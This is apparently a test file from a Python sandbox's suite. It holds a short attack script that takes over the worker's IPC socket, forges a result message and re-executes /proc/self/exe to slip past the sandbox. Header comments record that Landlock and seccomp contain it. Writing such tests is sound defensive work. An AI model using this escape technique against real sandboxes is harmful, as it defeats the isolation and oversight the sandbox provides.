# attack: replaces itself by the program that /proc/self/exe leads to
# full: contained
# reduced: contained
# stopped-by: landlock, seccomp
import os
import stat
import struct
import sys


def is_socket(descriptor):
    try:
        return stat.S_ISSOCK(os.fstat(descriptor).st_mode)
    except OSError:
        return False


channel = next(descriptor for descriptor in range(3, 256) if is_socket(descriptor))
above = sys._getframe()
while "encode" not in above.f_globals:
    above = above.f_back
worker = above.f_globals


def frame(*message):
    data = worker["encode"](message)
    return struct.pack("<I", len(data)) + data


def returned(number, value):
    return frame(number, "returned", value, None, "", ())


def attack():
    os.set_inheritable(channel, True)
    answer = returned(1, "through: the interpreter, fresh, answers")
    code = f"import os; os.write({channel}, {answer!r})"
    os.execve("/proc/self/exe", [sys.executable, "-I", "-S", "-c", code], {})
